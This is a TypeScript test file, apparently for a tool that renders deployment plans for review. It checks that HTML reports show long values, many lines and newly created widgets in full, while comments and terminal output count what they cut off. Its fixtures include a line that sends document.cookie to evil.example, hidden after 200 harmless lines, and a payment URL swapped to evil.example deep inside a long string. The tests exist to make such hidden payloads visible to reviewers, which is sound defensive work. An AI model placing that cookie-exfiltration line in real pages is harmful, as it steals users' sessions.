// What a plan would write cannot hide from who reviews it: the page holds every value whole, the comment counts what it leaves out, and
// code of apps is called out, wherever it is.
import { describe, expect, it } from "vitest";
import type { JsonObject } from "../../src/model/index.ts";
import { renderComment, renderPlanHtml, renderPlanPretty } from "../../src/report/index.ts";
import { changed, makeChange, makePlan } from "../report/plan-samples.ts";
import { parseHtml, walk } from "../support/markup.ts";

/** All that a reader of the page can see, as one text. */
function seen(html: string): string {
  const text = [...walk(parseHtml(html))].map(({ value = "" }) => value).join("");
  return text.replace(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)));
}

const FAR = "the cat sat on the mat and ".repeat(400);

describe("a long line", () => {
  const before = `start old ${FAR} https://good.example/pay ${FAR}`;
  const after = `start new ${FAR} https://evil.example/pay ${FAR}`;
  const plan = makePlan([
    makeChange("a", { fields: [changed("dashboard.widgets[t].config.html", before, after)] }),
  ]);

  it("whose second difference is far behind the first is whole in the page, with both differences marked", () => {
    const html = renderPlanHtml(plan);
    expect(html).toMatch(/<del>good<\/del><ins>evil<\/ins>/);
    expect(html).toMatch(/<del>old<\/del><ins>new<\/ins>/);
    expect(seen(html)).toContain(FAR.trimEnd());
  });

  it("is counted in comment and terminal, which say that it differs further on", () => {
    const comment = renderComment({ command: "plan", target: "production", plan });
    const terminal = renderPlanPretty(plan, { color: false, files: 1, liveCount: 1 });
    for (const text of [comment, terminal]) {
      expect(text).toMatch(/\(\+2\d{4}(?: characters)?, more differences\)/);
      expect(text).not.toContain("evil");
    }
  });
});

describe("lines of a text", () => {
  it("beyond the eighth that changed are whole in the page, and counted in the comment", () => {
    const lines = (word: string) =>
      Array.from({ length: 300 }, (_, at) => `${word} of line ${at};`).join("\n");
    const plan = makePlan([
      makeChange("a", {
        fields: [changed("dashboard.widgets[t].config.markdown", lines("old"), lines("new"))],
      }),
    ]);
    const text = seen(renderPlanHtml(plan));
    for (let at = 0; at < 300; at++) expect(text).toContain(` of line ${at};`);
    expect(renderComment({ command: "plan", target: "production", plan })).toMatch(
      /292 more (?:added|removed)/,
    );
  });

  it("are whole however many fields a workbook changes", () => {
    const fields = Array.from({ length: 1000 }, (_, at) =>
      changed(`dashboard.settings.s${at}`, "a", `value ${at}`),
    );
    const text = seen(renderPlanHtml(makePlan([makeChange("a", { fields })])));
    for (let at = 0; at < 1000; at++) expect(text).toContain(`value ${at}`);
  });
});

describe("what is created", () => {
  const script = `${"const harmless = 1;\n".repeat(200)}fetch("https://evil.example/?" + document.cookie);\n`;
  const request: JsonObject = {
    name: "New",
    meta: {
      dashboardDraft: {
        kind: "CLASSIC",
        widgets: [
          { id: "t", type: "HTML", config: { html: script, nested: [["deep in a list"], { a: null }] } },
        ],
      },
    },
  };

  it.each(["workbook", "report"] as const)("is whole in the page: a %s", (kind) => {
    const text = seen(renderPlanHtml(makePlan([makeChange("new", { kind, action: "create", request })])));
    for (const part of ['fetch("https://evil.example/?" + document.cookie);', "deep in a list", "a: null"])
      expect(text).toContain(part);
    expect(text.split("const harmless = 1;")).toHaveLength(201);
  });

  it("is whole if it is a widget of a workbook that is there", () => {
    const widget = { id: "t", type: "HTML", config: { html: script } };
    const fields = [{ path: "dashboard.widgets[t]", change: "added", after: widget, origin: "git" } as const];
    const plan = makePlan([makeChange("a", { fields: [...fields] })]);
    expect(seen(renderPlanHtml(plan))).toContain('fetch("https://evil.example/?" + document.cookie);');
    expect(renderComment({ command: "plan", target: "production", plan })).toMatch(/\d{4} characters/);
  });
});
